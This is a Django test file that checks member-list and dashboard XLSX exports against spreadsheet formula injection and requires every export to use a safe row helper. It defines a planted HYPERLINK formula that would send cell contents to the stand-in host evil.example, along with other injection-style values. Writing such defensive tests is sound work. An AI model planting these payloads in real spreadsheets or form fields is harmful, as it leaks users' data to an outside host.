"""No text typed by a user becomes a live formula in an XLSX export (OWASP CSV/formula injection)."""

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
from django.conf import settings
from django.urls import reverse

from evaluations.models import CellMonth

PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
OTHERS = ["+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def _formulas(content: bytes) -> list[str]:
    """The formulas stored in the workbook's sheets (what Excel would evaluate)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", book.read(n).decode())]


def _texts(content: bytes) -> set:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return {cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}


def test_the_member_list_export_writes_a_planted_formula_as_text(world, login):
    world.target.full_name = PLANTED
    world.target.phone = OTHERS[0]
    world.target.position = OTHERS[2]
    world.target.save()
    world.cell.name = OTHERS[1]
    world.cell.save()

    response = login("secretary").get(reverse("members:export", args=[world.cell.pk]))

    assert response.status_code == 200
    assert _formulas(response.content) == []
    assert {PLANTED, OTHERS[0], OTHERS[1], OTHERS[2]} <= _texts(response.content)


def test_the_dashboard_export_writes_a_cell_renamed_to_a_formula_as_text(world, login):
    world.cell.name = PLANTED
    world.cell.save()
    world.cell_a2.name = OTHERS[3]
    world.cell_a2.save()
    period = dt.date(2026, 11, 1)
    CellMonth.objects.create(cell=world.cell, period=period, held=True)
    CellMonth.objects.create(cell=world.cell_a2, period=period)

    response = login("reviewer").get(
        reverse("evaluations:dashboard_xlsx", args=[world.root.pk]), {"period": "2026-11"}
    )

    assert response.status_code == 200
    assert _formulas(response.content) == []
    assert {PLANTED, OTHERS[3]} <= _texts(response.content)


def test_every_xlsx_export_writes_its_rows_through_the_helper():
    """A new export that builds a workbook must use `core.spreadsheets.append_row` (and so be safe)."""
    offenders = []
    for path in Path(settings.BASE_DIR).glob("*/**/*.py"):
        if {".venv", "tests", "var", "migrations"} & set(path.parts):
            continue
        source = path.read_text()
        if "Workbook(" in source and ("append_row" not in source or re.search(r"\bsheet\.append\(", source)):
            offenders.append(str(path))
    assert not offenders
